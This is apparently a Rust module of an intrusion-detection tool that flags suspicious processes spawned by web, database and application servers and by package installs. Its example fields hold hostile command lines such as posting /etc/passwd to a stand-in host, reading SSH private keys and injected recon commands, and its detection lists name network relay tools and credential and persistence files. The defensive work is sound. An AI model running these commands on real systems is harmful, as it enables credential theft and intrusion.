//! Where a process comes from: servers that start what a server does not need.

use super::kinds::Kinds;
use super::seen::Seen;
use super::words::{has_any, holds_any, parts};
use super::{Finds, Hit, Indicator};
use crate::analysis::facts::{Facts, Program};
use crate::cmdline::{base_name, is_shell, program_family};

/// What kind of program a process comes from.
#[derive(Debug, Clone, Copy)]
pub(super) struct Origin {
    /// A web or database server, as [`serves`] knows it.
    pub server: bool,
    /// An application's runtime.
    pub application: bool,
}

impl Origin {
    pub fn of(facts: &Facts<'_>) -> Self {
        Self { server: serves(facts), application: runs_application(facts) }
    }
}

pub(super) const ROWS: &[Indicator] = &[
    Indicator {
        id: "server-looks-around",
        finds: Finds::Kind(Kinds::FROM_SERVER, &[], |seen| seen.origin.server && is_inspection(seen)),
        weight: 75,
        techniques: &["T1190", "T1505.003", "T1082"],
        reason: "A web or database server's child looks at users, system or network: a server has no reason to, somebody behind it has.",
        refuted_by: "A plug-in or status page of the server that runs exactly this command.",
        example: &[("proc.pname", "php-fpm"), ("proc.cmdline", "sh -c id; uname -a")],
        look_alike: &[("proc.pname", "php-fpm"), ("proc.cmdline", "sh -c convert a.jpg -resize 200x200 b.jpg")],
    },
    Indicator {
        id: "server-fetches-or-connects",
        finds: Finds::Kind(Kinds::FROM_SERVER, &[], |seen| {
            let relay = matches!(seen.name, "nc" | "socat" | "telnet" | "ssh" | "tftp");
            seen.origin.server
                && (relay || (seen.is_download() && seen.urls().any(|url| !super::words::is_internal_host(url.host))))
        }),
        weight: 60,
        techniques: &["T1190", "T1105"],
        reason: "A web or database server's child fetches from outside or opens a connection: the second step after an exploit.",
        refuted_by: "An application behind the server that calls this address by design.",
        example: &[("proc.pname", "apache2"), ("proc.cmdline", "curl http://files.example/a")],
        look_alike: &[("proc.pname", "apache2"), ("proc.cmdline", "curl http://127.0.0.1/server-status")],
    },
    Indicator {
        id: "server-starts-interactive-shell",
        finds: Finds::Facts(|facts| {
            let text = facts.process.program.cmdline?;
            let mut words = text.split_ascii_whitespace();
            let shell = is_shell(base_name(words.next()?));
            if !shell {
                return None;
            }
            let rest: Vec<&str> = words.collect();
            let mut options = rest.iter().take_while(|word| word.starts_with('-') && !word.contains('c'));
            let interactive = options.any(|word| matches!(*word, "-i" | "-il" | "-li"));
            ((interactive || (rest.is_empty() && facts.process.on_terminal == Some(true))) && serves(facts))
                .then(|| Hit::of("proc.cmdline", text))
                .flatten()
        }),
        weight: 80,
        techniques: &["T1505.003", "T1059.004"],
        reason: "A web or database server has an interactive shell as a child: somebody works through it.",
        refuted_by: "Nothing that is known to be harmless does this.",
        example: &[("proc.pname", "httpd"), ("proc.cmdline", "sh -i")],
        look_alike: &[("proc.pname", "sshd"), ("proc.cmdline", "bash -i")],
    },
    Indicator {
        id: "server-starts-shell",
        finds: Finds::Facts(|facts| {
            let name = facts
                .process
                .program
                .name
                .or_else(|| facts.process.program.cmdline?.split_ascii_whitespace().next())?;
            if !is_shell(base_name(name)) {
                return None;
            }
            Hit::of("proc.pname", server(facts)?)
        }),
        weight: 20,
        techniques: &["T1190", "T1059.004"],
        reason: "A web or database server starts a shell: applications do it too, and injected commands always.",
        refuted_by: "The application behind the server runs this command by design.",
        example: &[("proc.pname", "nginx"), ("proc.name", "sh"), ("proc.cmdline", "sh -c date")],
        look_alike: &[("proc.pname", "nginx"), ("proc.name", "nginx"), ("proc.cmdline", "nginx -s reload")],
    },
    Indicator {
        id: "server-child-touches-secrets",
        finds: Finds::Facts(|facts| {
            let (field, path) = super::credentials::touches_secrets(facts)?;
            let own = facts.process.program.name.is_some_and(is_server);
            (!own && serves(facts)).then(|| Hit::of(field, path)).flatten()
        }),
        weight: 75,
        techniques: &["T1190", "T1003.008"],
        reason: "A process that a web or database server started reads the machine's secrets.",
        refuted_by: "Nothing that is known to be harmless does this.",
        example: &[("proc.name", "cat"), ("proc.pname", "sh"), ("proc.aname[2]", "nginx"), ("fd.name", "/etc/shadow")],
        look_alike: &[("proc.name", "cron"), ("proc.pname", "systemd"), ("fd.name", "/etc/shadow")],
    },
    Indicator {
        id: "application-looks-around",
        finds: Finds::Kind(Kinds::FROM_APPLICATION, &[], |seen| seen.origin.application && is_personal(seen)),
        weight: 45,
        techniques: &["T1190", "T1082"],
        reason: "A shell below an application server (Java, Node, Python, Ruby) asks who and where it is, as injected commands do first.",
        refuted_by: "The application runs exactly this command by design.",
        example: &[("proc.pname", "java"), ("proc.cmdline", "sh -c whoami")],
        look_alike: &[("proc.pname", "java"), ("proc.cmdline", "sh -c df -h")],
    },
    Indicator {
        id: "package-install-script-uses-network-tool",
        finds: Finds::Facts(|facts| {
            let relay = ["nc", "ncat", "netcat", "socat", "nmap", "telnet", "ssh"];
            let name = facts.process.program.name?;
            let installs = facts.lineage().any(|program| {
                program.name.is_some_and(|name| name.starts_with("npm") || name == "yarn" || name == "pnpm")
                    || program.cmdline.is_some_and(|text| text.starts_with("npm install") || text.starts_with("npm ci"))
            });
            (installs && relay.contains(&name)).then(|| Hit::of("proc.name", name)).flatten()
        }),
        weight: 70,
        techniques: &["T1195.002"],
        reason: "The installation of a package starts a raw network tool: a poisoned package calls home so.",
        refuted_by: "The package's install script, read by you.",
        example: &[("proc.name", "nc"), ("proc.pname", "sh"), ("proc.aname[2]", "npm install")],
        look_alike: &[("proc.name", "node-gyp"), ("proc.pname", "sh"), ("proc.aname[2]", "npm install")],
    },
    Indicator {
        id: "package-install-script-sends",
        finds: Finds::Command(&["curl", "wget"], |seen| {
            let installs = seen.facts.lineage().any(|program| {
                program.name.is_some_and(|name| {
                    name.starts_with("npm") || matches!(name, "yarn" | "pnpm" | "pip" | "pip3" | "gem")
                })
            });
            let sends = seen.any_arg(|arg| {
                matches!(arg, "-d" | "--data" | "--data-binary" | "-F" | "-T" | "--post-data" | "--post-file")
                    || arg.starts_with("--data")
                    || arg.starts_with("--post")
            });
            installs && (sends || seen.urls().any(|url| super::words::is_public_address(url.host)))
        }),
        weight: 70,
        techniques: &["T1195.002", "T1041"],
        reason: "The installation of a package sends data out, or fetches from a bare address: a poisoned package does so.",
        refuted_by: "The package's install script, read by you.",
        example: &[
            ("proc.pname", "sh"),
            ("proc.aname[2]", "npm"),
            ("proc.cmdline", "curl -d @/etc/passwd https://a.example/c"),
        ],
        look_alike: &[
            ("proc.pname", "sh"),
            ("proc.aname[2]", "npm"),
            ("proc.cmdline", "curl -fsSLO https://nodejs.org/dist/v20/node.tgz"),
        ],
    },
    Indicator {
        id: "parent-in-scratch-space",
        finds: Finds::Facts(|facts| {
            let path = facts.parent.exepath.or(facts.parent.exe.filter(|exe| exe.starts_with('/')))?;
            super::execution::is_scratch(path).then(|| Hit::of("proc.pexepath", path)).flatten()
        }),
        weight: 30,
        techniques: &["T1059"],
        reason: "The process was started by a program that lies where any user may write.",
        refuted_by: "A build, a test or an installer that unpacks its programs there.",
        example: &[("proc.pexepath", "/tmp/x")],
        look_alike: &[("proc.pexepath", "/usr/bin/x")],
    },
    Indicator {
        id: "server-runs-scratch-program",
        finds: Finds::Facts(|facts| {
            let path = facts.process.program.exepath?;
            (super::execution::is_scratch(path) && serves(facts)).then(|| Hit::of("proc.exepath", path)).flatten()
        }),
        weight: 75,
        techniques: &["T1190", "T1105", "T1059"],
        reason: "A web or database server starts a program from scratch space: what an intruder put there.",
        refuted_by: "The application behind the server unpacks this program there by design.",
        example: &[("proc.pname", "sh"), ("proc.aname[2]", "php-fpm"), ("proc.exepath", "/dev/shm/x")],
        look_alike: &[("proc.pname", "sh"), ("proc.aname[2]", "pytest"), ("proc.exepath", "/dev/shm/x")],
    },
    Indicator {
        id: "server-runs-scratch-script",
        finds: Finds::Kind(Kinds::FROM_SERVER, &[], |seen| {
            let interprets = seen.is_shell() || matches!(seen.name, "perl" | "python" | "php" | "ruby" | "node");
            let script = seen.operands().next().is_some_and(super::execution::is_scratch) && !seen.has_arg(&["-c"]);
            seen.origin.server && ((interprets && script) || super::execution::is_scratch(seen.command.path()))
        }),
        weight: 72,
        techniques: &["T1190", "T1105", "T1059"],
        reason: "A web or database server runs a script from scratch space: what an intruder put there.",
        refuted_by: "The application behind the server writes this script there by design.",
        example: &[("proc.pname", "postgres"), ("proc.cmdline", "perl /tmp/bot.pl")],
        look_alike: &[("proc.pname", "postgres"), ("proc.cmdline", "perl /usr/share/pg/report.pl")],
    },
    Indicator {
        id: "server-runs-code",
        finds: Finds::Kind(Kinds::FROM_SERVER, &[], |seen| {
            let text = |code: &str| {
                holds_any(
                    code,
                    parts![
                        "os.popen",
                        "os.system",
                        "subprocess",
                        "shell_exec",
                        "system(",
                        "exec(",
                        "child_process",
                        "passthru",
                    ],
                )
            };
            seen.origin.server
                && seen.code().is_some_and(|(language, code)| language != crate::cmdline::Language::Awk && text(code))
        }),
        weight: 72,
        techniques: &["T1190", "T1059"],
        reason: "A web or database server's child runs one-line code that starts other programs: injected code does.",
        refuted_by: "The application behind the server runs exactly this code by design.",
        example: &[("proc.pname", "apache2"), ("proc.cmdline", "python3 -c import os; print(os.popen('id').read())")],
        look_alike: &[("proc.pname", "apache2"), ("proc.cmdline", "php -r echo phpversion();")],
    },
    Indicator {
        id: "server-writes-login-file",
        finds: Finds::Facts(|facts| {
            let own = facts.process.program.name.is_some_and(is_server);
            let (field, path) = facts.file.paths.iter().find(|(_, path)| {
                let files = parts![
                    "/.ssh/authorized_keys",
                    "/etc/cron",
                    "/var/spool/cron",
                    "/etc/ld.so.preload",
                    "/etc/passwd",
                    "/etc/systemd/system/",
                    "/etc/profile",
                ];
                has_any(path, files)
            })?;
            // Falco's rules for reading do not print the flags of the open.
            let reads = facts.file.written == Some(false) || facts.alert.rule().to_ascii_lowercase().contains("read");
            (own && !reads).then(|| Hit::of(field, path)).flatten()
        }),
        weight: 80,
        techniques: &["T1190", "T1098.004"],
        reason: "A web or database server itself writes a file that decides who may log in or what runs: Redis is abused so.",
        refuted_by: "Nothing that is known to be harmless does this.",
        example: &[("proc.name", "redis-server"), ("fd.name", "/root/.ssh/authorized_keys")],
        look_alike: &[("proc.name", "redis-server"), ("fd.name", "/data/dump.rdb")],
    },
    Indicator {
        id: "application-reads-credentials",
        finds: Finds::Command(&["cat", "head", "tail", "strings", "base64", "cp", "tar", "grep", "curl"], |seen| {
            (seen.origin.application || seen.origin.server) && super::credentials::stores(seen) > 0
        }),
        weight: 60,
        techniques: &["T1190", "T1552.001"],
        reason: "A tool that a server or application started reads a file of credentials that is not the application's.",
        refuted_by: "The application runs exactly this command by design.",
        example: &[("proc.pname", "sh"), ("proc.aname[2]", "node"), ("proc.cmdline", "cat /root/.ssh/id_rsa")],
        look_alike: &[("proc.pname", "sh"), ("proc.aname[2]", "node"), ("proc.cmdline", "cat /app/config.json")],
    },
];

/// Web servers and the runtimes that only serve web pages.
const WEB: &[&str] = &[
    "apache",
    "apache2",
    "caddy",
    "catalina",
    "fpm",
    "gunicorn",
    "haproxy",
    "httpd",
    "lighttpd",
    "lsphp",
    "nginx",
    "openresty",
    "php",
    "php-cgi",
    "php-fpm",
    "tomcat",
    "tomcat9",
    "uwsgi",
    "w3wp",
    "httpd-foreground",
    "php-fpm7",
    "php-fpm8",
    "gotty",
];
/// Database servers.
const DATABASES: &[&str] = &[
    "beam.smp",
    "clickhouse-serv",
    "clickhouse-server",
    "influxd",
    "mariadbd",
    "memcached",
    "mongod",
    "mysqld",
    "neo4j",
    "oracle",
    "postgres",
    "postmaster",
    "redis-server",
    "sqlservr",
    "mysqld_safe",
    "couchdb",
    "arangod",
    "redis-sentinel",
    "valkey-server",
];
/// Runtimes of applications, which start shells by design now and then.
const APPLICATIONS: &[&str] = &[
    "java",
    "next-server",
    "node",
    "puma",
    "python",
    "ruby",
    "unicorn",
    "celery",
    "dotnet",
    "beam",
    "pm2",
    "PM2",
    "jenkins",
];

pub(super) fn is_server(name: &str) -> bool {
    let name = name.trim_end_matches(':');
    let family = program_family(name);
    WEB.contains(&name)
        || (family != name && WEB.contains(&family))
        || DATABASES.contains(&name)
        || name.starts_with("php-fpm")
        || name.starts_with("postgres:")
}

/// The server that the process comes from: its parent, or an ancestor with nothing but shells between.
pub fn server<'a>(facts: &Facts<'a>) -> Option<&'a str> {
    nearest(facts, |program| {
        [program.name, program.exepath.map(base_name)].into_iter().flatten().find(|name| is_server(name))
    })
}

/// Whether it comes from a web or database server.
fn serves(facts: &Facts<'_>) -> bool {
    server(facts).is_some()
}

/// Whether it comes from an application's runtime, likewise.
fn runs_application(facts: &Facts<'_>) -> bool {
    nearest(facts, |program| {
        program.name.filter(|name| APPLICATIONS.contains(name) || APPLICATIONS.contains(&program_family(name)))
    })
    .is_some()
}

fn nearest<'a>(facts: &Facts<'a>, mut is: impl FnMut(&Program<'a>) -> Option<&'a str>) -> Option<&'a str> {
    for program in facts.lineage().take(5) {
        if let Some(name) = is(program) {
            return Some(name);
        }
        let between =
            program.name.is_some_and(|name| is_shell(name) || matches!(name, "sudo" | "env" | "timeout" | "nohup"));
        if !between {
            return None;
        }
    }
    None
}

/// Commands that tell who and where one is.
fn is_personal(seen: &Seen<'_, '_>) -> bool {
    matches!(seen.name, "id" | "whoami" | "uname" | "ifconfig" | "w" | "who" | "last" | "arp" | "groups")
        || (matches!(seen.name, "cat" | "head")
            && seen.has_arg(&["/etc/passwd", "/etc/issue", "/proc/version", "/etc/os-release"]))
}

/// Commands that look at users, system, network, packages or kernel.
fn is_inspection(seen: &Seen<'_, '_>) -> bool {
    if is_personal(seen) {
        return !is_own_question(seen);
    }
    let system = [
        "capsh",
        "dkms",
        "dmesg",
        "dpkg",
        "getent",
        "iptables",
        "journalctl",
        "last",
        "lsblk",
        "lsmod",
        "lspci",
        "modinfo",
        "modprobe",
        "mount",
        "netstat",
        "ps",
        "rpm",
        "route",
        "ss",
        "sudo",
        "su",
        "systemctl",
        "hostnamectl",
        "crontab",
        "kubectl",
        "docker",
        "nmap",
        "useradd",
        "passwd",
        "chattr",
    ];
    let ip = seen.name == "ip" && seen.has_arg(&["a", "addr", "address", "route", "r", "neigh"]);
    let files = matches!(seen.name, "cat" | "head" | "tail" | "ls" | "strings" | "grep" | "find" | "tr" | "base64")
        && seen.any_arg(|arg| {
            ["/etc/passwd", "/etc/shadow", "/proc/", "/root", "/home", "/.ssh"].iter().any(|part| arg.starts_with(part))
        });
    ip || files || system.contains(&seen.name)
}

/// `uname -m` and the like, which applications ask to choose a build.
fn is_own_question(seen: &Seen<'_, '_>) -> bool {
    let count = seen.args().count();
    let alone = seen.visit.before.is_none()
        && seen.visit.next().is_none()
        && seen.visit.after == crate::cmdline::Connector::End;
    match seen.name {
        "uname" => alone && count == 1 && seen.has_arg(&["-m", "-s", "-r", "-p"]),
        "id" => alone && count == 1 && seen.has_arg(&["-u"]),
        _ => false,
    }
}
